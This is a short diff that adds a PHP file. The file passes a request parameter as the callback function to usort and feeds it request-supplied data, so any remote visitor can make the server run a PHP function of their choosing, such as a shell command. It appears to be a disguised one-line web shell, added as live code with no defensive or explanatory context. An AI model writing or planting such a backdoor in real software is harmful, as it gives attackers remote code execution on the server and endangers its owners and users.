@@ -1,0 +1,3 @@
+<?php
+$a = array($_GET['x'], 1);
+usort($a, $_GET['f']);
